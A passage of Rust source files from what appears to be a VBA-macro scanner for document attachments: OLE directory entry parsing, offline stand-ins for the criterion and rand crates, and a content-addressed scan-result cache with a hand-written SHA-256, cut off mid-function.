pub struct DirEntry {
    /// Entry name (UTF-16 decoded; at most 31 code units).
    pub name: String,
    /// Entry kind.
    pub object_type: ObjectType,
    /// Left sibling in the red-black tree (`NOSTREAM` if none).
    pub left: u32,
    /// Right sibling (`NOSTREAM` if none).
    pub right: u32,
    /// First child of a storage (`NOSTREAM` if none).
    pub child: u32,
    /// First sector of the stream (or of the mini stream for the root).
    pub start_sector: u32,
    /// Stream length in bytes.
    pub size: u64,
}

impl DirEntry {
    /// Whether this entry is a stream.
    pub fn is_stream(&self) -> bool {
        self.object_type == ObjectType::Stream
    }

    /// Whether this entry is a storage (or the root).
    pub fn is_storage(&self) -> bool {
        matches!(self.object_type, ObjectType::Storage | ObjectType::Root)
    }
}

/// Validates a storage/stream name per MS-CFB §2.6.1: at most 31 UTF-16 code
/// units, no `/ \ : !`.
pub(crate) fn validate_name(name: &str) -> Result<(), OleError> {
    let units = name.encode_utf16().count();
    if name.is_empty() || units > 31 {
        return Err(OleError::InvalidName(name.to_string()));
    }
    if name.chars().any(|c| matches!(c, '/' | '\\' | ':' | '!')) {
        return Err(OleError::InvalidName(name.to_string()));
    }
    Ok(())
}

/// MS-CFB name ordering: shorter (in UTF-16 code units) sorts first; equal
/// lengths compare by uppercased code units.
pub(crate) fn name_cmp(a: &str, b: &str) -> std::cmp::Ordering {
    let a_units: Vec<u16> = a.to_uppercase().encode_utf16().collect();
    let b_units: Vec<u16> = b.to_uppercase().encode_utf16().collect();
    a_units
        .len()
        .cmp(&b_units.len())
        .then_with(|| a_units.cmp(&b_units))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cmp::Ordering;

    #[test]
    fn name_rules() {
        assert!(validate_name("Module1").is_ok());
        assert!(validate_name("_VBA_PROJECT").is_ok());
        assert!(validate_name("\u{1}CompObj").is_ok());
        assert!(validate_name("").is_err());
        assert!(validate_name("a/b").is_err());
        assert!(validate_name("a:b").is_err());
        assert!(validate_name(&"x".repeat(32)).is_err());
        assert!(validate_name(&"x".repeat(31)).is_ok());
    }

    #[test]
    fn ordering_is_length_first_then_caseless() {
        assert_eq!(name_cmp("b", "aa"), Ordering::Less);
        assert_eq!(name_cmp("abc", "ABD"), Ordering::Less);
        assert_eq!(name_cmp("abc", "ABC"), Ordering::Equal);
        assert_eq!(name_cmp("zz", "aaa"), Ordering::Less);
    }

    #[test]
    fn object_type_roundtrip() {
        for t in [
            ObjectType::Unknown,
            ObjectType::Storage,
            ObjectType::Stream,
            ObjectType::Root,
        ] {
            assert_eq!(ObjectType::from_u8(t.to_u8()), Some(t));
        }
        assert_eq!(ObjectType::from_u8(3), None);
    }
}
