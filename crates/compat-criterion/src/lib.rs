//! Offline drop-in subset of the `criterion` API.
//!
//! The build environment has no crates.io access, so the workspace vendors
//! the slice of criterion the `vbadet-bench` suite uses:
//! [`Criterion::benchmark_group`], [`BenchmarkGroup::bench_function`] /
//! [`BenchmarkGroup::throughput`] / [`BenchmarkGroup::sample_size`],
//! [`Bencher::iter`] / [`Bencher::iter_batched`], `criterion_group!` /
//! `criterion_main!`, and [`black_box`].
//!
//! Instead of criterion's statistical machinery this stub runs a short
//! warm-up, then a fixed number of timed samples, and prints the median
//! per-iteration time (plus throughput when configured). Good enough to
//! track relative regressions by eye; not a statistics engine.

use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// Throughput annotation for a benchmark.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    /// Input size in bytes processed per iteration.
    Bytes(u64),
    /// Number of elements processed per iteration.
    Elements(u64),
}

/// How much setup output to batch per timing measurement.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BatchSize {
    /// Small per-iteration inputs: one setup per measured iteration.
    SmallInput,
    /// Large per-iteration inputs: same behavior in this stub.
    LargeInput,
    /// Per-iteration setup: same behavior in this stub.
    PerIteration,
}

/// Timing driver handed to each benchmark closure.
pub struct Bencher {
    iters: u64,
    elapsed: Duration,
}

impl Bencher {
    /// Times `routine` over the configured number of iterations.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        let start = Instant::now();
        for _ in 0..self.iters {
            black_box(routine());
        }
        self.elapsed = start.elapsed();
    }

    /// Times `routine` with untimed per-iteration `setup`.
    pub fn iter_batched<I, O, S, R>(&mut self, mut setup: S, mut routine: R, _size: BatchSize)
    where
        S: FnMut() -> I,
        R: FnMut(I) -> O,
    {
        let mut total = Duration::ZERO;
        for _ in 0..self.iters {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            total += start.elapsed();
        }
        self.elapsed = total;
    }
}

/// A named collection of related benchmarks sharing configuration.
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    sample_size: usize,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of timed samples per benchmark.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(2);
        self
    }

    /// Sets the throughput annotation for subsequent benchmarks.
    pub fn throughput(&mut self, throughput: Throughput) -> &mut Self {
        self.throughput = Some(throughput);
        self
    }

    /// Runs one benchmark and prints its median per-iteration time.
    pub fn bench_function<N: Into<String>, F>(&mut self, name: N, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let name = name.into();
        let full = format!("{}/{}", self.name, name);

        // Warm-up + calibration: find an iteration count that gives a
        // measurable (>= ~2ms) sample without running forever.
        let mut iters = 1u64;
        loop {
            let mut b = Bencher {
                iters,
                elapsed: Duration::ZERO,
            };
            f(&mut b);
            if b.elapsed >= Duration::from_millis(2) || iters >= 1 << 20 {
                break;
            }
            iters *= 4;
        }

        let mut samples: Vec<f64> = Vec::with_capacity(self.sample_size);
        for _ in 0..self.sample_size {
            let mut b = Bencher {
                iters,
                elapsed: Duration::ZERO,
            };
            f(&mut b);
            samples.push(b.elapsed.as_secs_f64() / iters as f64);
        }
        samples.sort_by(|a, b| a.total_cmp(b));
        let median = samples[samples.len() / 2];

        let mut line = format!("{full:<48} time: {:>12}/iter", fmt_seconds(median));
        if let Some(tp) = self.throughput {
            let (amount, unit) = match tp {
                Throughput::Bytes(n) => (n as f64, "B"),
                Throughput::Elements(n) => (n as f64, "elem"),
            };
            if median > 0.0 {
                line.push_str(&format!("  thrpt: {}", fmt_rate(amount / median, unit)));
            }
        }
        println!("{line}");
        self.criterion.completed += 1;
        self
    }

    /// Ends the group (prints a blank separator line).
    pub fn finish(&mut self) {
        println!();
    }
}

fn fmt_seconds(s: f64) -> String {
    if s < 1e-6 {
        format!("{:.2} ns", s * 1e9)
    } else if s < 1e-3 {
        format!("{:.2} µs", s * 1e6)
    } else if s < 1.0 {
        format!("{:.2} ms", s * 1e3)
    } else {
        format!("{s:.2} s")
    }
}

fn fmt_rate(per_sec: f64, unit: &str) -> String {
    if unit == "B" {
        if per_sec >= 1e9 {
            format!("{:.2} GiB/s", per_sec / (1u64 << 30) as f64)
        } else if per_sec >= 1e6 {
            format!("{:.2} MiB/s", per_sec / (1u64 << 20) as f64)
        } else {
            format!("{:.2} KiB/s", per_sec / 1024.0)
        }
    } else {
        format!("{per_sec:.0} {unit}/s")
    }
}

/// Benchmark runner.
pub struct Criterion {
    completed: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion { completed: 0 }
    }
}

impl Criterion {
    /// Starts a named benchmark group.
    pub fn benchmark_group<N: Into<String>>(&mut self, name: N) -> BenchmarkGroup<'_> {
        let name = name.into();
        println!("group: {name}");
        BenchmarkGroup {
            criterion: self,
            name,
            sample_size: 10,
            throughput: None,
        }
    }

    /// Runs a standalone benchmark outside any group.
    pub fn bench_function<N: Into<String>, F>(&mut self, name: N, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        self.benchmark_group("bench").bench_function(name, f);
        self
    }
}

/// Declares a group-runner function from benchmark functions.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        fn $name() {
            let mut criterion = $crate::Criterion::default();
            $($target(&mut criterion);)+
        }
    };
}

/// Declares `main` from group-runner functions.
#[macro_export]
macro_rules! criterion_main {
    ($($group:ident),+ $(,)?) => {
        fn main() {
            // `cargo test -q` runs harness=false benches with --test-like
            // args (e.g. `--nocapture`); skip actual timing there so the
            // test suite stays fast. `cargo bench` passes `--bench`.
            let args: Vec<String> = std::env::args().collect();
            if args.iter().any(|a| a == "--test") {
                return;
            }
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn group_runs_and_reports() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("smoke");
        group.sample_size(3);
        group.throughput(Throughput::Bytes(1024));
        group.bench_function("sum", |b| b.iter(|| (0..100u64).sum::<u64>()));
        group.bench_function("batched", |b| {
            b.iter_batched(|| vec![1u8; 64], |v| v.len(), BatchSize::SmallInput)
        });
        group.finish();
        assert_eq!(c.completed, 2);
    }

    #[test]
    fn formatting_units() {
        assert!(fmt_seconds(5e-9).ends_with("ns"));
        assert!(fmt_seconds(5e-6).ends_with("µs"));
        assert!(fmt_seconds(5e-3).ends_with("ms"));
        assert!(fmt_rate(2e9, "B").ends_with("GiB/s"));
        assert!(fmt_rate(500.0, "elem").ends_with("elem/s"));
    }
}
