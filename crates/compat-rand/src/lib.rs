//! Offline drop-in subset of the `rand` 0.8 API.
//!
//! The build environment has no access to crates.io, so the workspace vendors
//! the small slice of `rand` it actually uses: [`rngs::StdRng`] (here a
//! xoshiro256++ generator seeded via SplitMix64), the [`Rng`] /
//! [`SeedableRng`] traits, uniform range sampling for integers and floats,
//! and [`seq::SliceRandom`] (`shuffle` / `choose`).
//!
//! The stream of values differs from upstream `rand` (different generator),
//! but every consumer in this workspace only relies on seeded determinism,
//! not on a specific stream.

use std::ops::{Range, RangeInclusive};

/// A source of random 64-bit words.
pub trait RngCore {
    /// Returns the next 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// Returns the next 32 random bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    /// Fills `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        let mut chunks = dest.chunks_exact_mut(8);
        for chunk in &mut chunks {
            chunk.copy_from_slice(&self.next_u64().to_le_bytes());
        }
        let rem = chunks.into_remainder();
        if !rem.is_empty() {
            let bytes = self.next_u64().to_le_bytes();
            rem.copy_from_slice(&bytes[..rem.len()]);
        }
    }
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
}

/// User-facing sampling methods, mirroring `rand::Rng`.
pub trait Rng: RngCore {
    /// Samples a value of type `T` from the standard distribution.
    fn gen<T>(&mut self) -> T
    where
        distributions::Standard: distributions::Distribution<T>,
    {
        use distributions::Distribution;
        distributions::Standard.sample(self)
    }

    /// Samples a value uniformly from `range` (`a..b` or `a..=b`).
    fn gen_range<T, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample_single(self)
    }

    /// Returns `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool {
        debug_assert!((0.0..=1.0).contains(&p), "gen_bool p out of range: {p}");
        unit_f64(self.next_u64()) < p
    }

    /// Returns `true` with probability `numerator / denominator`.
    fn gen_ratio(&mut self, numerator: u32, denominator: u32) -> bool {
        assert!(denominator > 0 && numerator <= denominator);
        (self.next_u64() % denominator as u64) < numerator as u64
    }

    /// Samples from an explicit distribution.
    fn sample<T, D: distributions::Distribution<T>>(&mut self, distr: D) -> T {
        distr.sample(self)
    }

    /// Fills `dest` with random data (mirrors `rand::Rng::fill`).
    fn fill<T: Fill + ?Sized>(&mut self, dest: &mut T) {
        dest.fill_from(self)
    }
}

/// Types fillable with random data via [`Rng::fill`].
pub trait Fill {
    /// Fills `self` from `rng`.
    fn fill_from<R: RngCore + ?Sized>(&mut self, rng: &mut R);
}

impl Fill for [u8] {
    fn fill_from<R: RngCore + ?Sized>(&mut self, rng: &mut R) {
        rng.fill_bytes(self);
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Seeding, mirroring `rand::SeedableRng` (only the `seed_from_u64`
/// constructor is provided).
pub trait SeedableRng: Sized {
    /// Builds a generator from a 64-bit seed.
    fn seed_from_u64(state: u64) -> Self;
}

fn unit_f64(word: u64) -> f64 {
    // 53 random mantissa bits -> [0, 1).
    (word >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

/// Named generators.
pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// Deterministic xoshiro256++ generator (stands in for rand's `StdRng`).
    #[derive(Debug, Clone, PartialEq, Eq)]
    pub struct StdRng {
        s: [u64; 4],
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            let result = self.s[0]
                .wrapping_add(self.s[3])
                .rotate_left(23)
                .wrapping_add(self.s[0]);
            let t = self.s[1] << 17;
            self.s[2] ^= self.s[0];
            self.s[3] ^= self.s[1];
            self.s[1] ^= self.s[2];
            self.s[0] ^= self.s[3];
            self.s[2] ^= t;
            self.s[3] = self.s[3].rotate_left(45);
            result
        }
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(state: u64) -> Self {
            // SplitMix64 expansion of the seed, as recommended by the
            // xoshiro authors.
            let mut sm = state;
            let mut next = || {
                sm = sm.wrapping_add(0x9E37_79B9_7F4A_7C15);
                let mut z = sm;
                z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
                z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
                z ^ (z >> 31)
            };
            StdRng {
                s: [next(), next(), next(), next()],
            }
        }
    }
}

/// Distributions (only `Standard` is modeled).
pub mod distributions {
    use super::RngCore;

    /// A distribution over values of type `T`.
    pub trait Distribution<T> {
        /// Samples one value.
        fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> T;
    }

    /// The standard distribution: uniform over the full integer range,
    /// `[0, 1)` for floats, fair coin for `bool`.
    #[derive(Debug, Clone, Copy, Default)]
    pub struct Standard;

    macro_rules! impl_standard_int {
        ($($t:ty),*) => {$(
            impl Distribution<$t> for Standard {
                fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> $t {
                    rng.next_u64() as $t
                }
            }
        )*};
    }
    impl_standard_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Distribution<f64> for Standard {
        fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> f64 {
            super::unit_f64(rng.next_u64())
        }
    }

    impl Distribution<f32> for Standard {
        fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> f32 {
            ((rng.next_u64() >> 40) as f32) * (1.0 / (1u64 << 24) as f32)
        }
    }

    impl Distribution<bool> for Standard {
        fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> bool {
            rng.next_u64() & 1 == 1
        }
    }
}

/// Types usable as the argument of [`Rng::gen_range`].
pub trait SampleRange<T> {
    /// Samples one value from the range.
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

/// Types with uniform sampling over half-open and closed ranges.
pub trait SampleUniform: Copy + PartialOrd {
    /// Uniform sample from `[low, high)` (`inclusive = false`) or
    /// `[low, high]` (`inclusive = true`).
    fn sample_uniform<R: RngCore + ?Sized>(
        rng: &mut R,
        low: Self,
        high: Self,
        inclusive: bool,
    ) -> Self;
}

macro_rules! impl_sample_uniform_int {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_uniform<R: RngCore + ?Sized>(
                rng: &mut R,
                low: Self,
                high: Self,
                inclusive: bool,
            ) -> Self {
                let lo = low as i128;
                let hi = high as i128;
                let span = (hi - lo) + if inclusive { 1 } else { 0 };
                assert!(span > 0, "cannot sample from empty range");
                let v = (rng.next_u64() as u128 % span as u128) as i128;
                (lo + v) as $t
            }
        }
    )*};
}
impl_sample_uniform_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_sample_uniform_float {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_uniform<R: RngCore + ?Sized>(
                rng: &mut R,
                low: Self,
                high: Self,
                _inclusive: bool,
            ) -> Self {
                assert!(low <= high, "cannot sample from empty range");
                low + (unit_f64(rng.next_u64()) as $t) * (high - low)
            }
        }
    )*};
}
impl_sample_uniform_float!(f32, f64);

impl<T: SampleUniform> SampleRange<T> for Range<T> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_uniform(rng, self.start, self.end, false)
    }
}

impl<T: SampleUniform> SampleRange<T> for RangeInclusive<T> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        let (start, end) = self.into_inner();
        T::sample_uniform(rng, start, end, true)
    }
}

/// Sequence helpers.
pub mod seq {
    use super::Rng;

    /// Slice shuffling and random selection, mirroring
    /// `rand::seq::SliceRandom`.
    pub trait SliceRandom {
        /// The element type.
        type Item;

        /// Fisher–Yates shuffle in place.
        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R);

        /// Uniformly random element, or `None` if empty.
        fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&Self::Item>;
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = rng.gen_range(0..=i);
                self.swap(i, j);
            }
        }

        fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&T> {
            if self.is_empty() {
                None
            } else {
                self.get(rng.gen_range(0..self.len()))
            }
        }
    }
}

pub use distributions::{Distribution, Standard};

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rngs::StdRng;
    use crate::seq::SliceRandom;

    #[test]
    fn deterministic_for_equal_seeds() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = StdRng::seed_from_u64(43);
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..1000 {
            let v = rng.gen_range(10..20);
            assert!((10..20).contains(&v));
            let w = rng.gen_range(3..=5);
            assert!((3..=5).contains(&w));
            let f = rng.gen_range(0.4..0.8);
            assert!((0.4..0.8).contains(&f));
            let neg = rng.gen_range(-10i64..-2);
            assert!((-10..-2).contains(&neg));
        }
    }

    #[test]
    fn unit_floats_in_range() {
        let mut rng = StdRng::seed_from_u64(9);
        for _ in 0..1000 {
            let f: f64 = rng.gen();
            assert!((0.0..1.0).contains(&f));
        }
    }

    #[test]
    fn bool_ratio_roughly_respected() {
        let mut rng = StdRng::seed_from_u64(1);
        let hits = (0..10_000).filter(|_| rng.gen_bool(0.25)).count();
        assert!((1500..3500).contains(&hits), "hits {hits}");
        let hits = (0..10_000).filter(|_| rng.gen_ratio(1, 3)).count();
        assert!((2300..4300).contains(&hits), "hits {hits}");
    }

    #[test]
    fn shuffle_is_a_permutation() {
        let mut rng = StdRng::seed_from_u64(3);
        let mut v: Vec<u32> = (0..50).collect();
        v.shuffle(&mut rng);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
        assert!([1u8, 2, 3].choose(&mut rng).is_some());
        assert!(([] as [u8; 0]).choose(&mut rng).is_none());
    }

    #[test]
    fn fill_bytes_covers_tail() {
        let mut rng = StdRng::seed_from_u64(5);
        let mut buf = [0u8; 13];
        rng.fill_bytes(&mut buf);
        assert!(buf.iter().any(|&b| b != 0));
    }
}
