//! Content-addressed scan-result cache.
//!
//! A production attachment scanner sees the same document bytes over and
//! over — mail bursts fan one attachment out to thousands of inboxes,
//! shared templates circulate for years. Re-running container parsing +
//! feature extraction + inference on bytes that were fully adjudicated
//! minutes ago wastes the hot path. This module caches *decided outcomes*,
//! keyed by content, and serves them back byte-identically.
//!
//! # Key derivation
//!
//! An entry is addressed by the triple
//!
//! ```text
//! (SHA-256(document bytes), FNV-1a-64(detector.save()), FNV-1a-64(policy fields))
//! ```
//!
//! plus the on-disk schema version. The *content* digest is SHA-256 — the
//! document is attacker-controlled, and a collidable hash (FNV, CRC) would
//! let a hostile document alias a clean one and be served its verdict. The
//! detector and policy fingerprints only guard against *operator* drift
//! (retrained model, changed limits), not an adversary, so the cheap FNV
//! is enough there. The policy fingerprint covers exactly the fields that
//! can change a scan outcome — the same set the isolation supervisor ships
//! to its workers in its hello frame — so execution-shape knobs (`jobs`,
//! `isolate`, metrics, the cache itself) never fragment the key space.
//!
//! Any fingerprint mismatch is a clean miss: a retrained detector or a
//! changed limit makes every old entry invisible (never a stale verdict),
//! while the entries stay on disk for runs that still match.
//!
//! # Tiers
//!
//! - **In-memory**: a 16-way sharded LRU, `Mutex` per shard, suitable for
//!   the resident service where the worker pool hits it concurrently.
//! - **On-disk** (optional): append-only JSONL segment files under a cache
//!   directory, one new segment per writer run, with the same crash-safety
//!   discipline as the scan journal — a torn tail is detected and dropped,
//!   never misparsed. Each line additionally carries an FNV-1a checksum
//!   over its canonical content, so a *bitflipped* (not just torn) entry
//!   is skipped instead of served as a wrong verdict.
//!
//! # Determinism contract
//!
//! The deterministic counter section of [`ScanMetrics`] must be identical
//! with the cache off, cold, and warm. Misses therefore scan under a
//! fresh sink and store the resulting counter *deltas* with the outcome;
//! hits replay those deltas into the live sink, so the totals come out as
//! if every document had been scanned. Cache traffic itself (hits, misses,
//! inserts, evictions, entry bytes) is recorded on the histogram side,
//! which is exempt from the determinism promise.
//!
//! Outcomes that are not pure functions of `(bytes, detector, policy)`
//! are never cached: `Io` (path-specific), `Timeout` (wall-clock and
//! load dependent), `Panic` and `Fatal` (environmental).

use std::collections::HashMap;
use std::fs;
use std::io::{self, Write};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use crate::detector::Detector;
use crate::journal::{decode_outcome, json_str, outcome_json, parse_json, Json};
use vbadet_metrics::{Counter, MetricsSink, Stage};

use super::{FailureClass, ScanOutcome, ScanPolicy};

/// On-disk store format name, carried in every segment header.
pub const CACHE_FORMAT: &str = "vbadet-scan-cache";
/// On-disk schema version. Bumping it orphans (but does not delete) every
/// existing segment: the loader skips segments with a different version.
pub const CACHE_VERSION: u64 = 1;

/// Number of in-memory LRU shards. A power of two so shard selection is a
/// mask on the first digest byte.
const SHARDS: usize = 16;

/// fsync the open segment every this many appended entries (same period
/// as the journal). Entries between syncs survive a process crash but not
/// a power cut; the torn-tail loader handles either.
const FSYNC_PERIOD: u64 = 64;

/// Hard cap on one serialized entry line. Anything longer on disk is
/// treated as damage; anything longer at insert time is simply not
/// persisted (the in-memory tier still takes it).
const MAX_ENTRY_LINE_BYTES: usize = 1 << 20;

/// SHA-256 of a document's bytes. The content half of a cache key.
pub type ContentDigest = [u8; 32];

/// Full cache key: content digest + detector and policy fingerprints.
/// The schema version is implicit (it gates segment loading).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) struct Key {
    digest: ContentDigest,
    detector_fp: u64,
    policy_fp: u64,
}

/// Counter deltas captured from the fresh-sink scan of a miss, replayed
/// verbatim on every later hit. Sorted by counter label at insert so the
/// canonical serialization is stable.
pub(crate) type Deltas = Vec<(Counter, u64)>;

/// One cached decision.
#[derive(Debug, Clone, PartialEq)]
struct Entry {
    outcome: ScanOutcome,
    deltas: Deltas,
}

// ---------------------------------------------------------------------------
// SHA-256 (FIPS 180-4), hand-rolled over std only.
//
// The workspace deliberately has no external crypto dependency; 70 lines
// of the reference compression function beat pulling one in. Correctness
// is pinned by the FIPS test vectors in this module's tests.
// ---------------------------------------------------------------------------

const SHA256_K: [u32; 64] = [
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
];

/// SHA-256 of `bytes`.
pub fn sha256(bytes: &[u8]) -> ContentDigest {
    let mut state: [u32; 8] = [
        0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab,
        0x5be0cd19,
    ];
    let bit_len = (bytes.len() as u64).wrapping_mul(8);
    let mut block = [0u8; 64];
    let mut chunks = bytes.chunks_exact(64);
    for chunk in &mut chunks {
        block.copy_from_slice(chunk);
        sha256_compress(&mut state, &block);
    }
    // Padding: 0x80, zeros, 64-bit big-endian bit length.
    let rest = chunks.remainder();
    block[..rest.len()].copy_from_slice(rest);
    block[rest.len()] = 0x80;
    block[rest.len() + 1..].fill(0);
    if rest.len() + 1 + 8 > 64 {
        sha256_compress(&mut state, &block);
        block.fill(0);
    }
    block[56..].copy_from_slice(&bit_len.to_be_bytes());
    sha256_compress(&mut state, &block);
    let mut out = [0u8; 32];
    for (i, word) in state.iter().enumerate() {
        out[i * 4..i * 4 + 4].copy_from_slice(&word.to_be_bytes());
    }
    out
}

fn sha256_compress(state: &mut [u32; 8], block: &[u8; 64]) {
    let mut w = [0u32; 64];
    for (i, word) in w.iter_mut().take(16).enumerate() {
        *word = u32::from_be_bytes(block[i * 4..i * 4 + 4].try_into().expect("4-byte slice"));
    }
    for i in 16..64 {
        let s0 = w[i - 15].rotate_right(7) ^ w[i - 15].rotate_right(18) ^ (w[i - 15] >> 3);
        let s1 = w[i - 2].rotate_right(17) ^ w[i - 2].rotate_right(19) ^ (w[i - 2] >> 10);
        w[i] = w[i - 16]
            .wrapping_add(s0)
            .wrapping_add(w[i - 7])
            .wrapping_add(s1);
    }
    let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut h] = *state;
    for i in 0..64 {
        let s1 = e.rotate_right(6) ^ e.rotate_right(11) ^ e.rotate_right(25);
        let ch = (e & f) ^ (!e & g);
        let t1 = h
            .wrapping_add(s1)
            .wrapping_add(ch)
            .wrapping_add(SHA256_K[i])
            .wrapping_add(w[i]);
        let s0 = a.rotate_right(2) ^ a.rotate_right(13) ^ a.rotate_right(22);
        let maj = (a & b) ^ (a & c) ^ (b & c);
        let t2 = s0.wrapping_add(maj);
        h = g;
        g = f;
        f = e;
        e = d.wrapping_add(t1);
        d = c;
        c = b;
        b = a;
        a = t1.wrapping_add(t2);
    }
    for (s, v) in state.iter_mut().zip([a, b, c, d, e, f, g, h]) {
        *s = s.wrapping_add(v);
    }
}

/// FNV-1a-64. Used for the detector/policy fingerprints and the per-line
/// damage checksum — places where the input is not attacker-controlled or
/// where corruption, not collision-forging, is the threat.
pub(crate) fn fnv1a64(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf29ce484222325;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    h
}

fn hex(bytes: &[u8]) -> String {
    let mut s = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        s.push_str(&format!("{b:02x}"));
    }
    s
}

fn unhex_digest(s: &str) -> Option<ContentDigest> {
    if s.len() != 64 {
        return None;
    }
    let mut out = [0u8; 32];
    for (i, byte) in out.iter_mut().enumerate() {
        *byte = u8::from_str_radix(&s[i * 2..i * 2 + 2], 16).ok()?;
    }
    Some(out)
}

/// Fingerprint of a trained detector: FNV over its canonical `save()`
/// text, which covers the feature mode, scaler, weights and seed — any
/// retrain changes it.
pub(crate) fn detector_fingerprint(detector: &Detector) -> u64 {
    fnv1a64(detector.save().as_bytes())
}

/// Fingerprint of the outcome-affecting policy fields. Mirrors the field
/// set the isolation supervisor serializes into its hello frame: limits,
/// budgets and the ladder switch change outcomes; `jobs`, `isolate`,
/// metrics, drain and the cache handle itself do not.
pub(crate) fn policy_fingerprint(policy: &ScanPolicy) -> u64 {
    let l = &policy.limits;
    let canon = format!(
        "deadline_ms={:?} fuel={:?} ladder={} max_scan_mem={:?} \
         zip=({},{}) ole=({},{},{},{}) ovba=({},{},{}) max_file_size={}",
        policy.deadline_per_doc.map(|d| d.as_millis()),
        policy.fuel_per_doc,
        policy.ladder,
        policy.max_scan_mem,
        l.zip.max_entries,
        l.zip.max_member_bytes,
        l.ole.max_sectors,
        l.ole.max_dir_entries,
        l.ole.max_stream_bytes,
        l.ole.max_dir_depth,
        l.ovba.max_modules,
        l.ovba.max_module_bytes,
        l.ovba.max_dir_bytes,
        l.max_file_size,
    );
    fnv1a64(canon.as_bytes())
}

/// Whether an outcome is a pure function of `(bytes, detector, policy)`
/// and may therefore be cached. See the module docs for the exclusions.
fn cacheable(outcome: &ScanOutcome) -> bool {
    match outcome {
        ScanOutcome::Clean
        | ScanOutcome::Macros(_)
        | ScanOutcome::Salvaged(_)
        | ScanOutcome::Recovered { .. } => true,
        ScanOutcome::Failed { class, .. } => !matches!(
            class,
